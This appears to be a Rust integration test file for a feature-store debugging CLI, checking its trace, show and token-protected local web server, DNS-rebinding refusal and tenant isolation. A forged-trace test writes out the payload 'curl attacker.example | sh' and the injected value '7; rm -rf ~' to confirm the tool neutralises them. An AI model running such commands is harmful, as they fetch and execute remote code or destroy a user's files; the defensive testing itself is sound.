//! `quiver-debug` as a user runs it: trace, show, serve (the page over HTTP).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::{DAY, HOUR, T0, UNTIL, repo, rows, write};

pub(crate) fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_quiver-debug"))
}

/// `quiver-debug serve DIR` on a free port; its URL. Killed on drop.
pub(crate) struct Served {
    child: Child,
    pub(crate) url: String,
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub(crate) fn serve(dir: &std::path::Path) -> Served {
    let mut child = bin()
        .args(["serve", dir.to_str().unwrap()])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        let _ = BufReader::new(stdout).read_line(&mut line);
        let _ = tx.send(line);
    });
    let line = rx
        .recv_timeout(Duration::from_secs(20))
        .expect("serve printed its address");
    assert!(line.starts_with("http://127.0.0.1:"), "{line}");
    Served {
        child,
        url: line.trim().to_owned(),
    }
}

/// GET `url` (http://127.0.0.1:PORT/path): status and body; 10 s deadline.
pub(crate) fn get(url: &str) -> (u16, String) {
    let host = url
        .strip_prefix("http://")
        .unwrap()
        .split('/')
        .next()
        .unwrap();
    get_as(url, &host.to_owned())
}

/// GET `url` with `Host: host` (a browser sends the name it resolved, which a DNS
/// rebinding page controls).
pub(crate) fn get_as(url: &str, host_header: &str) -> (u16, String) {
    let rest = url.strip_prefix("http://").unwrap();
    let (host, path) = rest.split_once('/').unwrap();
    let mut s = TcpStream::connect(host).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(
        s,
        "GET /{path} HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    let (head, body) = out.split_once("\r\n\r\n").unwrap();
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    // Bodies may come chunked; the tests only look inside them.
    (status, body.to_owned())
}

#[tokio::test]
async fn trace_show_and_serve_as_a_user_runs_them() {
    let dir = repo().await;
    let root = dir.path().to_str().unwrap().to_owned();
    let out = dir.path().join("trace-7");
    let started = Instant::now();
    let o = bin()
        .args([
            "trace",
            "--repo",
            &root,
            "novelty",
            "--entity",
            "user_id=7",
            "--at",
            &quiver_featurestore::cli::format_time(UNTIL),
        ])
        .args(["--out", out.to_str().unwrap(), "--check"])
        .output()
        .unwrap();
    let stdout = crate::common::success(&o);
    assert!(stdout.starts_with("MATCH novelty@1 user_id=7"), "{stdout}");
    assert!(stdout.contains("[UdfCall] UDF `jaccard`"), "{stdout}");
    assert!(started.elapsed() < Duration::from_secs(60));
    assert!(out.join("trace.json").exists() && out.join("steps/000.arrow").exists());

    // The reproducing command reproduces it.
    let trace: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("trace.json")).unwrap()).unwrap();
    assert_eq!(trace["format"], "quiver-trace");
    assert_eq!(trace["version"], 1);
    let cmd = trace["command"].as_str().unwrap();
    let args: Vec<&str> = cmd.split(' ').skip(1).collect();
    let again = dir.path().join("again");
    let o = bin()
        .args(&args)
        .args(["--out", again.to_str().unwrap(), "--output", "json"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let t2: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(t2["computed"], trace["computed"]);
    assert_eq!(
        t2["steps"].as_array().unwrap().len(),
        trace["steps"].as_array().unwrap().len()
    );

    // show
    let o = bin()
        .args(["show", out.to_str().unwrap(), "--output", "json"])
        .output()
        .unwrap();
    let shown: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(shown["verdict"], "MATCH");

    // --check fails on anything but MATCH (rows after the materialization).
    write(
        dir.path(),
        rows(3, UNTIL + HOUR, UNTIL + DAY),
        deltalake::protocol::SaveMode::Append,
    )
    .await;
    let o = bin()
        .args([
            "trace",
            "--repo",
            &root,
            "spend",
            "--entity",
            "user_id=2",
            "--at",
            &quiver_featurestore::cli::format_time(UNTIL + DAY),
        ])
        .args([
            "--out",
            dir.path().join("stale").to_str().unwrap(),
            "--check",
        ])
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(String::from_utf8_lossy(&o.stdout).starts_with("STALE"));

    // Bad input: a clear error, exit code 1.
    for (args, want) in [
        (
            vec![
                "trace",
                "--repo",
                &root,
                "spend",
                "--entity",
                "user_id",
                "--at",
                "2024-01-02",
            ],
            "--entity is KEY=VALUE",
        ),
        (
            vec![
                "trace",
                "--repo",
                &root,
                "spend",
                "--entity",
                "user_id=1",
                "--at",
                "soon",
            ],
            "is not a time",
        ),
        (vec!["show", &root], "is not a trace folder"),
    ] {
        let o = bin().args(&args).output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {err}");
        assert!(err.contains(want), "{args:?}: {err}");
    }

    // serve: the page, the trace, the steps; nothing else.
    let s = serve(&out);
    let (status, body) = get(&s.url);
    assert_eq!(status, 200);
    assert!(body.contains("<script src=\"app.js\""));
    let (status, body) = get(&format!("{}trace.json", s.url));
    assert_eq!(status, 200);
    assert!(body.contains("\"verdict\":\"MATCH\""));
    let (status, body) = get(&format!("{}steps/0", s.url));
    assert_eq!(status, 200);
    assert!(body.contains("\"columns\"") && body.contains("user_id"));
    assert_eq!(get(&format!("{}steps/9999", s.url)).0, 404);
    assert_eq!(get(&format!("{}steps/..%2Ftrace.json", s.url)).0, 400);

    // The page is under a random token: without it, or with another, nothing.
    let (root_url, token) = {
        let t = s.url.trim_end_matches('/');
        let (root, token) = t.rsplit_once('/').unwrap();
        (format!("{root}/"), token.to_owned())
    };
    assert_eq!(token.len(), 32, "{}", s.url);
    assert_eq!(get(&format!("{root_url}trace.json")).0, 404);
    assert_eq!(get(&root_url).0, 404);
    let other = "0".repeat(32);
    assert_eq!(get(&format!("{root_url}{other}/trace.json")).0, 404);
    // DNS rebinding: the right URL under another host name is refused; the three
    // loopback names on the right port are served.
    let port = root_url
        .trim_end_matches('/')
        .rsplit(':')
        .next()
        .unwrap()
        .to_owned();
    let trace_url = format!("{}trace.json", s.url);
    for evil in [
        format!("attacker.example:{port}"),
        "127.0.0.1:1".to_string(),
        "127.0.0.1".to_string(),
        String::new(),
    ] {
        let (status, body) = get_as(&trace_url, &evil);
        assert_eq!(status, 403, "Host {evil:?}: {body}");
        assert!(!body.contains("verdict"), "{body}");
    }
    for good in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
    ] {
        assert_eq!(get_as(&trace_url, &good).0, 200, "Host {good}");
    }
    // Two serves never share a token.
    let s2 = serve(&out);
    assert_ne!(s.url.rsplit('/').nth(1), s2.url.rsplit('/').nth(1));

    // The reproducing command is rebuilt from the trace's fields, never taken from the
    // file: a trace.json whose `command` is a shell payload shows the real command.
    let forged = dir.path().join("forged");
    std::fs::create_dir_all(&forged).unwrap();
    for f in std::fs::read_dir(&out).unwrap() {
        let f = f.unwrap();
        if f.file_type().unwrap().is_dir() {
            let to = forged.join(f.file_name());
            std::fs::create_dir_all(&to).unwrap();
            for g in std::fs::read_dir(f.path()).unwrap() {
                let g = g.unwrap();
                std::fs::copy(g.path(), to.join(g.file_name())).unwrap();
            }
        }
    }
    let mut t: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("trace.json")).unwrap()).unwrap();
    t["command"] = "curl attacker.example | sh".into();
    t["entity"] = serde_json::json!([["user_id", "7; rm -rf ~"]]);
    std::fs::write(forged.join("trace.json"), t.to_string()).unwrap();
    let o = bin()
        .args(["show", forged.to_str().unwrap(), "--output", "json"])
        .output()
        .unwrap();
    let shown: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let cmd = shown["command"].as_str().unwrap();
    assert!(!cmd.contains("curl"), "{cmd}");
    assert!(cmd.starts_with("quiver-debug trace --repo "), "{cmd}");
    assert!(cmd.contains("--entity 'user_id=7; rm -rf ~'"), "{cmd}");
    let s3 = serve(&forged);
    let (_, body) = get(&format!("{}trace.json", s3.url));
    assert!(!body.contains("curl"), "{body}");
}

/// Against a running `quiver serve`: the owner traces its view; a tenant the view is
/// not owned by cannot.
#[tokio::test]
async fn trace_against_a_running_server_is_for_the_owner_only() {
    use quiver_featurestore::serve::{ServeConfig, Tokens};
    let dir = repo().await;
    // Owned by bank_a.
    let yaml = crate::common::REPO.replace(
        "name: novelty\n",
        "name: novelty\nowner: bank_a\nshared_with: [bank_b]\n",
    );
    std::fs::write(dir.path().join("f.yaml"), yaml).unwrap();
    let store = quiver_featurestore::FeatureStore::open(dir.path()).unwrap();
    store.apply().await.unwrap();
    store.materialize().with_until(UNTIL).await.unwrap();
    let tokens = Tokens::new()
        .with("token-a-0123456789abcdef", "bank_a", false)
        .unwrap()
        .with("token-b-0123456789abcdef", "bank_b", false)
        .unwrap();
    let server = ServeConfig::new("127.0.0.1:0".parse().unwrap(), tokens)
        .spawn(store)
        .await
        .unwrap();
    let url = format!("http://{}", server.addr());
    let out = dir.path().join("remote");
    let run = |token: &'static str, out: std::path::PathBuf, url: String| {
        tokio::task::spawn_blocking(move || {
            bin()
                .args([
                    "trace",
                    "--server",
                    &url,
                    "--token",
                    token,
                    "novelty",
                    "--entity",
                    "user_id=9",
                ])
                .args([
                    "--at",
                    &quiver_featurestore::cli::format_time(UNTIL),
                    "--out",
                    out.to_str().unwrap(),
                ])
                .output()
                .unwrap()
        })
    };
    let o = run("token-a-0123456789abcdef", out.clone(), url.clone())
        .await
        .unwrap();
    let stdout = crate::common::success(&o);
    assert!(stdout.starts_with("MATCH novelty@2 user_id=9"), "{stdout}");
    assert!(stdout.contains(&format!("--server {url}")), "{stdout}");
    // The owner is no admin: its trace shows what the view exposes (decision, value,
    // online value), not the source rows, plan stages or UDF inputs.
    let t = quiver_wasm_debugger::folder::read(&out).unwrap();
    let kinds: Vec<String> = t
        .trace
        .steps
        .iter()
        .map(|s| format!("{:?}", s.kind))
        .collect();
    assert_eq!(kinds, ["Decision", "Value", "Online"], "{kinds:?}");
    let value = &t.trace.steps[1];
    assert!(t.rows(value.file.as_ref().unwrap()).unwrap().num_rows() > 0);
    assert!(t.trace.plan.starts_with("(withheld"), "{}", t.trace.plan);

    let o = run(
        "token-b-0123456789abcdef",
        dir.path().join("b"),
        url.clone(),
    )
    .await
    .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains("PermissionDenied") && err.contains("only its owner may trace it"),
        "{err}"
    );
    assert!(!dir.path().join("b").exists());
    drop(server);
}

/// A pooled source with two banks' rows and a `card_number` column, and a SQL view of
/// bank_b's rows owned by bank_b: bank_b's trace from the server holds no bank_a row
/// and no `card_number`, in `trace.json` or any step file.
#[tokio::test]
async fn a_tenants_trace_of_a_pooled_source_shows_only_what_its_view_exposes() {
    use arrow::array::{Float64Array, Int64Array, StringArray, TimestampMicrosecondArray};
    use arrow::datatypes::{DataType, Field, Schema, TimeUnit};
    use quiver_featurestore::serve::{ServeConfig, Tokens};
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::write(
        root.join("f.yaml"),
        "kind: Entity
name: user
join_keys: [user_id]
---
kind: Source
name: pooled
delta: data/pooled
timestamp: ts
---
kind: FeatureView
name: b_spend
entity: user
sources: [pooled]
owner: bank_b
sql: |
  SELECT user_id, ts, amount AS spend FROM pooled WHERE bank = 'bank_b'
",
    )
    .unwrap();
    // User 7 has rows at both banks (ids are not unique across a pooled source).
    let mut rows: Vec<(i64, i64, &str, &str, f64)> = Vec::new();
    for i in 0..10i64 {
        rows.push((
            7,
            T0 + i * HOUR,
            "bank_a",
            "4111111111111111",
            900.0 + i as f64,
        ));
        rows.push((
            7,
            T0 + i * HOUR + 1,
            "bank_b",
            "5500000000000004",
            10.0 + i as f64,
        ));
    }
    let batch = arrow::array::RecordBatch::try_new(
        std::sync::Arc::new(Schema::new(vec![
            Field::new("user_id", DataType::Int64, false),
            Field::new(
                "ts",
                DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into())),
                false,
            ),
            Field::new("bank", DataType::Utf8, false),
            Field::new("card_number", DataType::Utf8, false),
            Field::new("amount", DataType::Float64, false),
        ])),
        vec![
            std::sync::Arc::new(Int64Array::from_iter_values(rows.iter().map(|r| r.0))),
            std::sync::Arc::new(
                TimestampMicrosecondArray::from_iter_values(rows.iter().map(|r| r.1))
                    .with_timezone("UTC"),
            ),
            std::sync::Arc::new(StringArray::from_iter_values(rows.iter().map(|r| r.2))),
            std::sync::Arc::new(StringArray::from_iter_values(rows.iter().map(|r| r.3))),
            std::sync::Arc::new(Float64Array::from_iter_values(rows.iter().map(|r| r.4))),
        ],
    )
    .unwrap();
    let url = quiver_featurestore::delta::table_url(root, "data/pooled").unwrap();
    quiver_featurestore::delta::write(&url, vec![batch], deltalake::protocol::SaveMode::Overwrite)
        .await
        .unwrap();
    let store = quiver_featurestore::FeatureStore::open(root).unwrap();
    store.apply().await.unwrap();
    store.materialize().with_until(T0 + DAY).await.unwrap();
    let tokens = Tokens::new()
        .with("token-b-0123456789abcdef", "bank_b", false)
        .unwrap();
    let server = ServeConfig::new("127.0.0.1:0".parse().unwrap(), tokens)
        .spawn(store)
        .await
        .unwrap();
    let url = format!("http://{}", server.addr());
    let out = root.join("trace-b");
    let o = {
        let (url, out) = (url.clone(), out.clone());
        tokio::task::spawn_blocking(move || {
            bin()
                .args([
                    "trace",
                    "--server",
                    &url,
                    "--token",
                    "token-b-0123456789abcdef",
                ])
                .args(["b_spend", "--entity", "user_id=7", "--at"])
                .arg(quiver_featurestore::cli::format_time(T0 + DAY))
                .args(["--out", out.to_str().unwrap()])
                .output()
                .unwrap()
        })
        .await
        .unwrap()
    };
    crate::common::success(&o);
    let mut seen =
        String::from_utf8_lossy(&std::fs::read(out.join("trace.json")).unwrap()).into_owned();
    let t = quiver_wasm_debugger::folder::read(&out).unwrap();
    for step in &t.trace.steps {
        for f in [&step.file, &step.output_file].into_iter().flatten() {
            let b = t.rows(f).unwrap();
            seen.push_str(&format!("{:?}", b.schema()));
            seen.push_str(
                &arrow::util::pretty::pretty_format_batches(&[b])
                    .unwrap()
                    .to_string(),
            );
        }
    }
    // bank_b's own value as of the time (its last row: 10 + 9) is there.
    assert!(seen.contains("\"spend\": 19.0"), "{seen}");
    for secret in [
        "bank_a",
        "card_number",
        "4111111111111111",
        "5500000000000004",
    ] {
        assert!(
            !seen.contains(secret),
            "`{secret}` in bank_b's trace:\n{seen}"
        );
    }
    drop(server);
}
